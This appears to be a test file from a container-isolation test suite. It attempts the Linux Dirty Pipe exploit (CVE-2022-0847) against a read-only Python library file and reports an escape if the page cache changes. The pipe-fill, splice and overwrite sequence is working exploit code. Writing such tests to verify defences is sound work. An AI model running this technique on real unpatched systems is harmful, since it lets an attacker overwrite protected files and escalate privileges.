# attack = "Linux, CVE-2022-0847, Dirty Pipe: writes into pages of a file of the image, which all containers share"
# threats = [30]
# before = "published/dirty_pipe_2022_0847"
# outcome = "OK"
# stdout = "unchanged\n"
import fcntl
import os

from attack import escaped

PATH = "/usr/lib/python3.11/this.py"
fd = os.open(PATH, os.O_RDONLY)
reader, writer = os.pipe()
size = fcntl.fcntl(writer, fcntl.F_GETPIPE_SZ)
os.write(writer, bytes(size))
os.read(reader, size)
before = os.pread(fd, 64, 0)
if b"DIRTY" in before:
    escaped(f"the last one changed {PATH}")
os.splice(fd, writer, 1, offset_src=0)
os.write(writer, b"DIRTY")
if (after := os.pread(fd, 64, 0)) != before:
    escaped(f"{PATH}: {after!r}")
else:
    print("unchanged")
